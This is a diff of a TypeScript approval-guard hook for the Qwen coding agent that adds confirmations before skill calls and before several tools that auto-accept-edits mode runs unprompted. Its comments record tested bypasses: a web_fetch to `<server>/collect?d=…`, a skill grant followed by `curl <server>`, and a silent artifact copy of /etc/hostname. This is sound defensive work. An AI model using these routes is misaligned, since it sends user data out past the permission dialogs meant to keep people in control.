@@ -1,10 +1,10 @@
 // The approval guard: a PreToolUse hook that turns a mid-session switch to YOLO (or auto) back into
 // confirmations, and asks in every mode before git runs in a directory the launcher did not check
-// (docs/repository.md#git), before a worktree checkout, before a shell line Qwen judges only in
-// part (`bash -c …`), before a file tool reads in Qwen's own directories and before a read-only shell
+// (docs/repository.md#git), before a worktree checkout, before a skill (it may grant tools for the
+// session), before a shell line Qwen judges only in part (`bash -c …`), before a file tool reads in Qwen's own directories and before a read-only shell
 // command reads outside the repository; it denies a file tool through a link out of the repository;
-// and, in auto-accept-edits, it asks before the network tools that mode approves although they edit
-// nothing and before edits of git's own files. Measured on Qwen 0.24.4: a PreToolUse `ask` forces a
+// and, in auto-accept-edits, it asks before the tools that mode approves although they edit nothing
+// (web_fetch, web_search, artifact, image_gen) and before edits of git's own files. Measured on Qwen 0.24.4: a PreToolUse `ask` forces a
 // confirmation even in YOLO.
 import { dirname, isAbsolute, relative, resolve, sep } from 'node:path';
 import { renderContentForDisplay } from '../../context/display.js';
@@ -394,6 +394,7 @@ const unquote = (p: string) => p.replace(/^(['"])(.*)\1$/, '$2');
  */
 function everyModeRisk(input: Record<string, unknown>, host: GuardHost): string | undefined {
   if (input.tool_name === WORKTREE_TOOL) return WORKTREE_REASON;
+  if (input.tool_name === SKILL_TOOL) return SKILL_REASON + skillName(input.tool_input);
   if (typeof input.cwd === 'string' && isAbsolute(input.cwd)) {
     const outside = readsOutside(input, input.cwd, host) ?? writesMemory(input, input.cwd, host);
     if (outside !== undefined) return outside;
@@ -412,6 +413,12 @@ function everyModeRisk(input: Record<string, unknown>, host: GuardHost): string 
   if (git !== undefined) return git;
   if (root === undefined || !isAbsolute(root)) return undefined;
   return shellReadsOutside(joined, directory, root, host);
+}
+
+/** The skill a skill call names, shown escaped (the model chose it). */
+function skillName(args: unknown): string {
+  const name = isPlainObject(args) ? args.skill : undefined;
+  return renderContentForDisplay(typeof name === 'string' ? name : JSON.stringify(name ?? null));
 }
 
 function gitRisk(joined: string, directory: unknown, root: string | undefined): string | undefined {
@@ -434,18 +441,43 @@ function gitRisk(joined: string, directory: unknown, root: string | undefined): 
 
 /**
  * Qwen 0.24.4's auto-accept-edits mode approves, besides edits, every call whose dialog is an "info"
- * one (its isAutoEditApproved), and web_fetch and web_search ask with one. It is also the mode every
- * subagent of a trusted repository runs in when its definition names none, whatever the session's.
- * Measured through the launcher: one Shift+Tab, then a model's web_fetch of `<server>/collect?d=…`
- * reached that server with no dialog; in the default mode, one approved `agent` call, then the
- * subagent's web_fetch did the same. What the model writes into a URL or a query leaves the machine.
+ * one (its isAutoEditApproved): web_fetch, web_search, artifact and image_gen ask with one. It is also
+ * the mode every subagent of a trusted repository runs in when its definition names none, whatever
+ * the session's. Measured through the launcher: one Shift+Tab, then a model's web_fetch of
+ * `<server>/collect?d=…` reached that server with no dialog (in the default mode, one approved `agent`
+ * call, then the subagent's web_fetch did the same), and an artifact of `/etc/hostname` was copied
+ * into the Qwen home's `artifacts/` with no dialog. Each entry: what the tool does that is no edit.
  */
 const AUTO_EDIT_MODES: ReadonlySet<unknown> = new Set(['auto_edit', 'auto-edit']);
-const EGRESS_TOOLS: ReadonlySet<unknown> = new Set(['web_fetch', 'web_search']);
+const AUTO_EDIT_APPROVED: Readonly<Record<string, string>> = {
+  web_fetch: 'it sends what the model wrote into the URL to the server it names',
+  web_search: "it sends the model's query to a search service",
+  artifact:
+    'it reads any file the model names, also outside the repository, copies it into the Qwen home ' +
+    '(artifacts/) and opens it in a browser, or uploads it when a remote publisher is set',
+  image_gen: "it sends the model's prompt to an image service and saves what comes back",
+};
 
 export const AUTO_EDIT_EGRESS_REASON =
   'Qwen runs this tool with no dialog in auto-accept-edits mode (also the mode of a subagent), though ' +
-  'it is no edit: it sends what the model wrote into it (a URL, a query) to a server the model chose. Tool: ';
+  'it is no edit: ';
+
+/**
+ * Qwen 0.24.4's skill tool applies the skill's `allowedTools` as allow rules for the rest of the
+ * session, and its dialog names only the skill ("Use skill: simplify"); in auto-accept-edits there is
+ * none (an "info" dialog). Bundled skills grant run_shell_command (simplify, review,
+ * extension-creator, workflow-authoring). Measured through the launcher: one "Yes, allow once" on
+ * `simplify` in the default mode (or one Shift+Tab and no dialog at all), then the model's
+ * `touch … && curl <server>` ran with no dialog and the server got the data. So the guard asks, in
+ * every mode, naming the grant; in the default mode that is a second dialog after Qwen's, which does
+ * not say what the skill grants.
+ */
+const SKILL_TOOL = 'skill';
+
+export const SKILL_REASON =
+  "A skill may grant tools for the rest of this session (its allowedTools; Qwen's bundled simplify, " +
+  'review, extension-creator and workflow-authoring grant run_shell_command), after which Qwen runs ' +
+  'them with no dialog, whatever they do. Skill: ';
 
 /**
  * The edits auto-accept-edits approves (write_file, edit, notebook_edit) may write git's own files:
@@ -485,8 +517,9 @@ function writesGit(input: Record<string, unknown>, root: string, host: GuardHost
 /** What auto-accept-edits would run with no dialog and the guard asks for there (undefined: nothing). */
 function autoEditRisk(input: Record<string, unknown>, host: GuardHost): string | undefined {
   if (!AUTO_EDIT_MODES.has(input.permission_mode)) return undefined;
-  if (EGRESS_TOOLS.has(input.tool_name))
-    return AUTO_EDIT_EGRESS_REASON + renderContentForDisplay(String(input.tool_name));
+  const tool = input.tool_name;
+  if (typeof tool === 'string' && Object.hasOwn(AUTO_EDIT_APPROVED, tool))
+    return `${AUTO_EDIT_EGRESS_REASON}${AUTO_EDIT_APPROVED[tool]}. Tool: ${renderContentForDisplay(tool)}`;
   return typeof input.cwd === 'string' && isAbsolute(input.cwd)
     ? writesGit(input, input.cwd, host)
     : undefined;
